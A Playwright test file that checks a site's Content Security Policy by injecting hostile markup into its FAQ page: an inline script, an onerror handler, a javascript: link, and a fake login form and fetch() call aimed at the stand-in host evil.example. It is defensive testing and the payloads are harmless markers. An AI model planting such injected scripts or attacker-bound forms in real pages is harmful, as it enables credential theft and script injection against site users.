import { type Page } from '@playwright/test'
import { keepRefused } from './policy'
import { expect, test } from './test'

test.describe('row 24: code injected into a page', () => {
  // React renders the page again when it finds it changed, and logs that.
  test.use({ allowedError: /policy|violat|refused|none\.png|Minified React error/i })

  /** Opens a page as somebody has changed it on the way, with its own headers. */
  async function openChanged(page: Page, evil: string): Promise<void> {
    await page.route('**/faq', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace('</main>', `${evil}</main>`)
      expect(body).toContain(evil)
      await route.fulfill({ status: 200, headers: response.headers(), body })
    })
    await page.goto('/faq')
  }

  test('an inline script is blocked', { tag: '@smoke' }, async ({ page }) => {
    const refused = await keepRefused(page)
    await openChanged(page, '<script>window.evil = true</script>')
    await expect.poll(() => refused).toContain('script-src-elem')
    expect(await page.evaluate(() => 'evil' in window)).toBe(false)
  })

  test('an event handler is blocked', async ({ page }) => {
    const refused = await keepRefused(page)
    await openChanged(page, '<img src="/none.png" onerror="window.evil = true">')
    await expect.poll(() => refused).toContain('script-src-attr')
    expect(await page.evaluate(() => 'evil' in window)).toBe(false)
  })

  test('a form that leads elsewhere, and data sent elsewhere, are blocked', async ({ page }) => {
    const refused = await keepRefused(page)
    const evil = '<form action="https://evil.example/"><button id="fake">Log in</button></form>'
    await openChanged(page, evil)
    // As a script of others would: without asking React.
    await page.locator('form:has(#fake)').evaluate((form: HTMLFormElement) => form.submit())
    await expect.poll(() => refused).toContain('form-action')
    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined))
    await expect.poll(() => refused).toContain('connect-src')
    expect(await page.evaluate(() => location.pathname)).toBe('/faq')
  })

  test('a javascript: link does nothing', async ({ page }) => {
    const refused = await keepRefused(page)
    await openChanged(page, '<a id="bait" href="javascript:window.evil = true">Click</a>')
    await page.locator('#bait').click()
    await expect.poll(() => refused).toContain('script-src-elem')
    expect(await page.evaluate(() => 'evil' in window)).toBe(false)
  })
})
